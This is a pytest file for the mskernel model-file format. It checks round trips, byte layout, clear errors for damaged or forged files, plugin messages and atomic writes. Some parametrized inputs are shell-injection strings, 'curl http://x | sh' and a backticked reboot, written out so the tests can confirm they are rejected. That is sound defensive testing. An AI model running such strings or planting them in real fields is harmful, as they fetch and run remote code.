"""The model file: exact round trip of graph and weights, the documented layout, a clear error
of one line for every kind of damaged, forged or unreadable file (also from `mskernel
explain`), atomic writes, and the missing-plugin message with only valid names in it."""

import hashlib
import json
import os
import struct

import numpy as np
import pytest

import mskernel
from mskernel.cli import main
from mskernel.errors import FileFormatError
from mskernel.ir import ALL_DTYPES, GraphBuilder, bfloat16, tensor_type
from mskernel.ir.dtypes import bfloat16_to_bits
from mskernel.ir.fileformat import ALIGNMENT, FORMAT_VERSION, MAGIC, load_model, save_model
from mskernel.ir.printer import print_graph
from mskernel.ops import elementwise
from mskernel.ops.registry import OpDef, OpRegistry
from mskernel.testing import random_array
from mskernel.testing.filefuzz import PREFIX, Parts, seal


def small_graph():
    b = GraphBuilder("net")
    x = b.input(tensor_type("f32", (2, 3)), name="x")
    w = b.input(tensor_type("bf16", (2, 3)), name="w")
    y = b.op("add", x, b.op("cast", w, dtype="f32"))
    return b.build([b.op("clip", y, min=-0.0, max=float("inf"))])


def every_dtype_weights():
    rng = np.random.default_rng(0)
    weights = {f"w.{dt.name}": random_array(rng, (3, 5), dt, -100, 100) for dt in ALL_DTYPES}
    weights["empty"] = np.zeros((0, 4), np.float64)
    weights["scalar"] = np.array(7, np.int16)
    weights["nan"] = np.array([0x7FC00001, 0xFF800000], np.uint32).view(np.float32)
    weights["transposed"] = np.arange(12, dtype=np.int32).reshape(3, 4).T
    weights["big-endian"] = np.array([1.5, -2.25], dtype=">f8")
    return weights


def test_graph_and_weights_of_every_dtype_round_trip_exactly(tmp_path):
    graph, weights = small_graph(), every_dtype_weights()
    path = tmp_path / "model.msk"
    save_model(path, graph, weights, dtypes={"w.bfloat16": "bf16"})
    model = load_model(path)
    assert print_graph(model.graph) == print_graph(graph)
    assert list(model.weights) == list(weights)
    for name, original in weights.items():
        loaded = model.weights[name]
        native = original.astype(original.dtype.newbyteorder("="))
        assert loaded.dtype == native.dtype and loaded.shape == native.shape, name
        assert loaded.tobytes() == np.ascontiguousarray(native).tobytes(), name
    assert model.weight_dtypes["w.bfloat16"] is bfloat16
    assert model.weight_dtypes["w.float32"].name == "float32"
    assert model.format_version == FORMAT_VERSION
    assert model.producer == f"mskernel {mskernel.__version__}"
    assert model.requires == {"mskernel": mskernel.__version__}


def test_layout_is_the_documented_one(tmp_path):
    path = tmp_path / "m.msk"
    bf16 = np.array([1.0, -2.5, 0.1], np.float32)
    save_model(path, small_graph(), {"a": np.arange(3, dtype=np.uint8), "b": bf16},
               dtypes={"b": bfloat16})
    data = path.read_bytes()
    magic, version, header_nbytes, payload_nbytes = PREFIX.unpack_from(data)
    assert (magic, version, payload_nbytes) == (MAGIC, FORMAT_VERSION, 70)
    header = json.loads(data[PREFIX.size:PREFIX.size + header_nbytes])
    assert list(header) == ["format_version", "producer", "graph", "requires", "op_owners",
                            "tensors"]
    assert header["graph"] == print_graph(small_graph())
    assert header["op_owners"] == {"add": "mskernel", "cast": "mskernel", "clip": "mskernel"}
    a, b = header["tensors"]["a"], header["tensors"]["b"]
    assert a == {"dtype": "uint8", "shape": [3], "offset": 0, "nbytes": 3}
    assert b == {"dtype": "bfloat16", "shape": [3], "offset": 64, "nbytes": 6}
    start = -(-(PREFIX.size + header_nbytes) // ALIGNMENT) * ALIGNMENT
    assert data[PREFIX.size + header_nbytes:start] == bytes(start - PREFIX.size - header_nbytes)
    payload, digest = data[start:-32], data[-32:]
    assert len(payload) == payload_nbytes
    assert digest == hashlib.sha256(data[:-32]).digest()  # the header is covered too
    assert payload[:3] == b"\x00\x01\x02" and payload[3:64] == bytes(61)
    assert payload[64:70] == bfloat16_to_bits(bf16).astype("<u2").tobytes()


# -- damaged and unreadable files ----------------------------------------------------------------

@pytest.fixture
def saved(tmp_path):
    path = tmp_path / "model.msk"
    save_model(path, small_graph(), {"w": np.arange(100, dtype=np.float32)})
    return path


def load_error(path, registry=None) -> str:
    with pytest.raises(FileFormatError) as info:
        load_model(path, registry)
    message = str(info.value)
    assert message.startswith(f"{path}: ")
    return message[len(f"{path}: "):]


def test_truncated_files_say_how_many_bytes_are_missing(saved):
    data = saved.read_bytes()
    cuts = {0: f"expected at least {PREFIX.size} bytes, found 0",
            5: f"expected at least {PREFIX.size} bytes, found 5",
            PREFIX.size - 1: f"expected at least {PREFIX.size} bytes, found {PREFIX.size - 1}"}
    for cut in (PREFIX.size, PREFIX.size + 10, 300, len(data) - 33, len(data) - 1):
        cuts[cut] = f"the file should hold {len(data)} bytes, found {cut}"
    for cut, detail in cuts.items():
        saved.write_bytes(data[:cut])
        assert load_error(saved) == f"truncated: {detail}", cut


def test_one_damaged_byte_anywhere_is_reported_as_corruption(saved):
    data = saved.read_bytes()
    text = Parts.of(data).header_text
    offset_digit = PREFIX.size + text.index(b'"offset": 0') + len(b'"offset": ')
    constant = PREFIX.size + text.index(b"max=inf") + len(b"max=")
    for at in (offset_digit, constant, len(data) - 100, len(data) - 1):
        damaged = bytearray(data)
        damaged[at] ^= 0x01
        saved.write_bytes(bytes(damaged))
        assert load_error(saved) == ("corrupt: the file does not match its SHA-256 checksum "
                                     "(it was damaged after it was written)"), at
    saved.write_bytes(data + b"\0")
    assert load_error(saved) == "corrupt: 1 unexpected bytes after the payload"


def test_files_of_a_newer_format_ask_for_an_upgrade(saved):
    data = bytearray(saved.read_bytes())
    struct.pack_into("<I", data, len(MAGIC), FORMAT_VERSION + 1)
    saved.write_bytes(bytes(data))
    assert load_error(saved) == (f"written by a newer mskernel (format {FORMAT_VERSION + 1}); "
                                 f"this mskernel reads up to {FORMAT_VERSION}; upgrade mskernel")


@pytest.mark.parametrize("content", [
    b"", b"PK\x03\x04 a zip file", b"\x80\x04\x95 pickle", b"MSKERNAL" + bytes(40)])
def test_other_files_are_not_mskernel_files(tmp_path, content):
    path = tmp_path / "garbage"
    path.write_bytes(content)
    if content:
        assert load_error(path) == ("not an mskernel model file (it does not start with "
                                    "b'MSKERNEL')")
    else:
        assert load_error(path).startswith("truncated")


def rewrite_header(path, edit, version=None):
    """Re-write the file at ``path`` with its JSON header changed by ``edit(header)`` and a
    digest that matches (a forged file)."""
    parts = Parts.of(path.read_bytes())
    header = parts.header
    edit(header)
    path.write_bytes(seal(MAGIC, parts.version if version is None else version,
                          json.dumps(header).encode(), parts.payload))


def test_invalid_headers_are_reported(saved):
    data = saved.read_bytes()
    parts = Parts.of(data)
    saved.write_bytes(seal(MAGIC, FORMAT_VERSION, b"[" + parts.header_text[1:], parts.payload))
    assert load_error(saved).startswith("invalid header: not UTF-8 JSON")

    saved.write_bytes(data)
    rewrite_header(saved, lambda h: h.pop("graph"))
    assert load_error(saved) == "invalid header: header field 'graph' is missing or not a string"

    saved.write_bytes(data)
    rewrite_header(saved, lambda h: h["tensors"]["w"].update(nbytes=4000))
    assert load_error(saved) == ("invalid header: tensor 'w' is float32[100] (400 bytes), but "
                                 "the header gives it 4000 bytes")

    saved.write_bytes(data)
    rewrite_header(saved, lambda h: h["tensors"]["w"].update(dtype="float8"))
    assert load_error(saved).startswith("invalid header: tensor 'w': unknown dtype 'float8'")

    saved.write_bytes(data)
    rewrite_header(saved, lambda h: None, version=0)
    assert load_error(saved) == "corrupt: format version 0 does not exist"

    saved.write_bytes(data)
    rewrite_header(saved, lambda h: h.update(graph=h["graph"].replace("add(", "add (%9, ")))
    assert load_error(saved) == (
        "the stored graph does not parse: 3:13: value %9 is not defined before this use")


@pytest.mark.parametrize("edit, message", [
    (lambda g: g.replace("max=inf", "max=" + "(" * 5000 + ")" * 5000),
     "4:122: tuples nested more than 100 deep"),
    (lambda g: g.replace("max=inf", "max=1" + "0" * 5000),
     "4:22: an integer of 5001 digits, more than 4300"),
    (lambda g: g.replace("f32[2,3] \"x\"", "f32[2," + "9" * 5000 + "] \"x\""),
     "1:22: an integer of 5000 digits, more than 4300"),
], ids=["deep attribute nesting", "5000-digit attribute", "5000-digit dimension"])
def test_hostile_graph_text_is_a_file_format_error(saved, edit, message):
    rewrite_header(saved, lambda h: h.update(graph=edit(h["graph"])))
    assert load_error(saved).startswith(f"the stored graph does not parse: {message}")


@pytest.mark.parametrize("content", [
    b"\x80\x04\x95 pickle",
    seal(MAGIC, FORMAT_VERSION, b'{"format_version": 2, "producer": ' + b"[" * 100_000, b""),
    seal(MAGIC, FORMAT_VERSION, b'{"format_version": 2, "producer": "", "producer": ""}', b""),
], ids=["foreign", "deep JSON nesting", "duplicate key"])
def test_explain_reports_a_malformed_file_in_one_line(tmp_path, capsys, content):
    path = tmp_path / "bad.msk"
    path.write_bytes(content)
    assert main(["explain", str(path)]) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.startswith(f"mskernel explain: {path}: ")
    assert captured.err.count("\n") == 1 and "Traceback" not in captured.err


# -- plugins the model needs ---------------------------------------------------------------------

def _expectation_infer(x):
    return tensor_type(x.dtype, ())


FAKE_OP = OpDef("fake.expectation", ("x",), _expectation_infer, lambda x: x.mean(dtype=x.dtype),
                owner="mskernel-fakeplugin")


@pytest.fixture
def plugin_model(tmp_path):
    registry = OpRegistry()
    registry.define_all(elementwise.OPS)
    registry.define(FAKE_OP)
    b = GraphBuilder("circuit", registry)
    x = b.input(tensor_type("f64", (4,)))
    graph = b.build([b.op("fake.expectation", b.op("cos", x))])
    path = tmp_path / "circuit.msk"
    save_model(path, graph, {"theta": np.ones(4)}, registry=registry)
    return path, registry


def test_ops_registered_in_process_record_no_version(plugin_model):
    path, registry = plugin_model
    model = load_model(path, registry)
    assert model.requires == {"mskernel": mskernel.__version__, "mskernel-fakeplugin": None}
    assert model.graph.nodes[1].op == "fake.expectation"


def test_missing_plugin_is_named_with_the_install_command(plugin_model):
    path, _ = plugin_model
    assert load_error(path) == (
        "this model needs mskernel-fakeplugin for op 'fake.expectation'; "
        "install it with `pip install mskernel-fakeplugin`")
    rewrite_header(path, lambda h: h["requires"].update({"mskernel-fakeplugin": "0.3.1"}))
    assert load_error(path) == (
        "this model needs mskernel-fakeplugin (>= 0.3.1) for op 'fake.expectation'; "
        "install it with `pip install mskernel-fakeplugin`")


def test_an_older_installed_distribution_asks_for_an_upgrade(saved):
    rewrite_header(saved, lambda h: h["requires"].update(mskernel="99.0"))
    assert load_error(saved) == (
        f"this model needs mskernel >= 99.0 for ops 'add', 'cast', 'clip', but "
        f"{mskernel.__version__} is installed; upgrade it with `pip install -U mskernel`")



@pytest.mark.parametrize("name", [
    "", "-dash-first", "dot.last.", "two words", "evil; curl http://x | sh",
    "x`reboot`", "pkg\nnext line", "mskernel-fakeplugin==1.0"])
def test_requirement_names_are_distribution_names_before_any_remedy_shows_them(
        plugin_model, name):
    path, _ = plugin_model

    def forge(header):
        header["requires"][name] = header["requires"].pop("mskernel-fakeplugin")
        header["op_owners"]["fake.expectation"] = name

    rewrite_header(path, forge)
    message = load_error(path)
    assert message == f"invalid header: requires names {name!r}, which is not a distribution name"
    assert "pip install" not in message


@pytest.mark.parametrize("version", ["1.0; curl http://x | sh", "", "latest", 3, ["1"]])
def test_recorded_versions_are_versions(saved, version):
    rewrite_header(saved, lambda h: h["requires"].update(mskernel=version))
    assert load_error(saved) == "invalid header: requires['mskernel'] is not a version"


def test_op_owners_name_only_required_distributions(saved):
    rewrite_header(saved, lambda h: h["op_owners"].update(add="mskernel-elsewhere"))
    assert load_error(saved) == ("invalid header: op_owners gives 'add' an owner that requires "
                                 "does not list")
    rewrite_header(saved, lambda h: h["op_owners"].update(add=["mskernel"]))
    assert load_error(saved).startswith("invalid header: op_owners gives 'add' an owner")


def test_an_op_owner_that_is_no_distribution_name_is_not_saved(tmp_path):
    registry = OpRegistry()
    registry.define_all(elementwise.OPS)
    registry.define(FAKE_OP, owner="my notebook")
    b = GraphBuilder("g", registry)
    graph = b.build([b.op("fake.expectation", b.input(tensor_type("f64", (4,))))])
    with pytest.raises(ValueError, match="op 'fake.expectation' is owned by 'my notebook', "
                                         "which is not a distribution name"):
        save_model(tmp_path / "m.msk", graph, registry=registry)
    assert not os.listdir(tmp_path)

# -- atomic writes ------------------------------------------------------------------------------

class FailingWrites:
    """A file object whose writes fail once ``budget`` bytes are written (a full disk)."""

    def __init__(self, f, budget):
        self.f, self.budget = f, budget

    def write(self, chunk):
        self.budget -= memoryview(chunk).nbytes
        if self.budget < 0:
            raise OSError(28, "No space left on device")
        return self.f.write(chunk)

    def __getattr__(self, name):
        return getattr(self.f, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return self.f.__exit__(*exc)


@pytest.mark.parametrize("failure", ["write", "fsync", "replace"])
def test_a_failed_write_leaves_the_previous_file_intact(saved, monkeypatch, failure):
    before = saved.read_bytes()
    real_fdopen = os.fdopen
    if failure == "write":
        monkeypatch.setattr(os, "fdopen", lambda *a, **k: FailingWrites(real_fdopen(*a, **k), 100))
    else:
        def fail(*args):
            raise OSError(5, f"simulated {failure} failure")
        monkeypatch.setattr(os, failure, fail)
    with pytest.raises(OSError):
        save_model(saved, small_graph(), {"w": np.zeros(1000, np.float32)})
    monkeypatch.undo()
    assert saved.read_bytes() == before
    assert os.listdir(saved.parent) == [saved.name]
    assert load_model(saved).weights["w"].shape == (100,)


def test_saving_replaces_the_file_in_place(saved):
    save_model(saved, small_graph(), {"v": np.zeros(2, np.int8)})
    assert list(load_model(saved).weights) == ["v"]
    assert os.listdir(saved.parent) == [saved.name]


def test_weights_must_be_stored_as_their_dtype_says(tmp_path):
    with pytest.raises(TypeError, match="tensor 'w' is a float64 array, but a bfloat16 tensor "
                                        "is stored as float32"):
        save_model(tmp_path / "m", small_graph(), {"w": np.ones(2)}, dtypes={"w": "bf16"})
    with pytest.raises(ValueError, match="dtypes names tensors that are not given: q"):
        save_model(tmp_path / "m", small_graph(), {}, dtypes={"q": "bf16"})
    assert not os.listdir(tmp_path)
